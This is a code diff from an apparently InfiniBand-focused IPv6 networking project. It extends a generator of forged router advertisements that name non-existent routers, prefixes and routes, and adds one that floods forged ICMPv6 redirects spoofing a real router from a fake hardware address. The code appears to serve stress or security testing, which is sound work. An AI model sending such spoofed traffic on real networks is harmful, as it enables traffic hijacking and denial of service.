@@ -13,7 +13,7 @@ from ipaddress import IPv4Address, IPv6Address
 from typing import Any, Final
 
 from ipoibu.addr import MULTICAST_QPN, Gid, HwAddr, PKey, Qpn
-from ipoibu.proto.advertised import PREFIX_INFORMATION
+from ipoibu.proto.advertised import PREFIX_INFORMATION, ROUTE_INFORMATION
 from ipoibu.wire import arp, ip, mad, mgid, ndisc
 from ipoibu.wire.cm_code import CLASS, CLASS_VERSION, SEND, Attribute
 from ipoibu.wire.cm_private import Private, ServiceForm, service_id
@@ -211,19 +211,38 @@ def lying_advertisements(target: Target, victim: IPv6Address) -> Flood:
     return Flood(_datagram(target, frame), (f"twin:{at}:{at + 2}",))
 
 
-def router_advertisements(target: Target, *, prefixes: bool = False) -> Flood:
-    """Advertisements of routers that do not exist, each from another port; with `prefixes` those of one
-    router, each with another prefix."""
+def router_advertisements(target: Target, kind: str = "routers") -> Flood:
+    """Advertisements of routers that do not exist, each from another port; with `kind` "prefixes" or
+    "routes" those of one router, each with another prefix or route."""
     router = IPv6Address("fe80::1:0:ffff:0:ffff")
-    lasts = struct.pack("!BBII4x", 64, 0xC0, 86_400, 86_400)
     prefix = IPv6Address("fd88:0:ffff:0:ffff::").packed
-    options = (Option(PREFIX_INFORMATION, lasts + prefix),) if prefixes else ()
+    options = {
+        "routers": (),
+        "prefixes": (
+            Option(PREFIX_INFORMATION, struct.pack("!BBII4x", 64, 0xC0, 86_400, 86_400) + prefix),
+        ),
+        "routes": (Option(ROUTE_INFORMATION, struct.pack("!BBI", 80, 0, 86_400) + prefix),),
+    }[kind]
     message = ndisc.RouterAdvertisement(router, ndisc.ALL_NODES, None, options, lifetime_s=9000)
     frame = Encap(EtherType.IPV6, message.pack()).pack()
-    at = DATAGRAM + frame.index(prefix) + 2 if prefixes else ENCAP + 8 + 8
+    at = DATAGRAM + frame.index(prefix) + 2 if options else ENCAP + 8 + 8
     return Flood(
         _datagram(target, frame), (f"twin:{at}:{at + 2}", f"twin:{at + 4}:{at + 6}", "source:4")
     )
+
+
+def redirects(target: Target, router: IPv6Address) -> Flood:
+    """Redirects in the name of a router, of ever new destinations to ever new hosts."""
+    better = IPv6Address("fe80::2:0:ffff:0:ffff")
+    redirected = IPv6Address("fd99::2:0:ffff:0:ffff")
+    liar = HwAddr(Qpn(0x666), STRANGER)
+    message = ndisc.Redirect(router, target.ipv6, better, redirected, liar)
+    frame = Encap(EtherType.IPV6, message.pack()).pack()
+    options = ["source:4"]
+    for address in (better, redirected):
+        at = DATAGRAM + frame.index(address.packed) + 8
+        options += [f"twin:{at}:{at + 2}", f"twin:{at + 4}:{at + 6}"]
+    return Flood(_datagram(target, frame), tuple(options))
 
 
 def packets(target: Target, source: Gid = STRANGER, *, invented: bool = False) -> Flood:
